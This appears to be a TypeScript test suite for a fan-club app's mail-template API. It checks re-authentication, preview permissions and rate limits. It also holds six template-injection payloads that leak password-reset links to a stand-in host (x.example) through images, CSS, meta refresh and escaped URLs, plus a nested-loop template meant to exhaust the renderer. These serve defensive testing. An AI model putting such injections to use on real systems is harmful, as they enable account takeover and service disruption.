import { mailsOf } from '../support/mails-of';
import { staffOf } from '../support/staff-client';
import { testApp } from '../support/start-test-app';

const t = testApp({ LIMIT_STAFF_PREVIEW: '12/60' });

const path = async (rest = ''): Promise<string> =>
  `/fanclubs/${(await t.given.fanclub()).id}/mail_templates/reset_password${rest}`;

it('mail templates leak no tokens: a manager cannot make a password mail send its link to another server', async () => {
  const kim = await staffOf(t, 'manager');
  const { headers } = await kim.get(await path());
  for (const html of [
    `<a href="{{ link }}">x</a><img {{ 'src=https://x.example/?u=' | append: link }}>`,
    '<a href="{{ link }}">x</a><style>p { background: url(https://x.example/{{ link }}) }</style>',
    '<a href="{{ link }}">x</a>{% assign l = link %}<img src="https://x.example/{{ l }}">',
    '<a href="{{ link }}">x</a><!--[if mso]><img src="https://x.example/{{ link }}"><![endif]-->',
    '<a href="{{ link }}">x</a><meta http-equiv="refresh" content="0;url=https://x.example/?{{ link }}">',
    '<a href="{{ link }}">x</a><p style="background:u\\72l(https://x.example/)">x</p>',
  ]) {
    const { status, body } = await kim.patch(await path(), { html }, String(headers.etag));
    expect([html, status, body.errors]).toEqual([
      html,
      422,
      [{ pointer: '#/html', detail: expect.any(String) }],
    ]);
    expect((await kim.post(await path('/preview'), { html })).status).toBe(422);
  }
  expect(await mailsOf(t)).toEqual([]);
});

it('mail templates are changed and put back only by who proved recently to be the person', async () => {
  const kim = await staffOf(t, 'manager');
  const { headers } = await kim.get(await path());
  await t.given.mailTemplate({ kind: 'confirm_contact' });
  t.clock.advance(11 * 60);
  const changed = await kim.patch(await path(), { subject: 'Hello' }, String(headers.etag));
  const removed = await kim.delete((await path()).replace('reset_password', 'confirm_contact'));
  for (const { status, body } of [changed, removed])
    expect([status, body.type]).toEqual([401, '/staff/problems/proof-required']);
});

it('a preview stops nobody: it takes the permission to change, little time, and is counted by person', async () => {
  const endless = '{{ link }}{% for i in (1..9999) %}{% for j in (1..9999) %}{% endfor %}{% endfor %}';
  const vic = await staffOf(t, 'viewer');
  expect((await vic.post(await path('/preview'), { text: endless })).status).toBe(403);
  const kim = await staffOf(t, 'manager');
  const statuses: number[] = [];
  const begun = performance.now();
  for (let n = 0; n < 14; n += 1)
    statuses.push((await kim.post(await path('/preview'), { text: endless, html: endless })).status);
  expect(statuses).toEqual([...Array<number>(12).fill(422), ...Array<number>(2).fill(429)]);
  // 12 seconds and more before; a loaded machine takes several times what an idle one does.
  expect(performance.now() - begun).toBeLessThan(6_000);
});
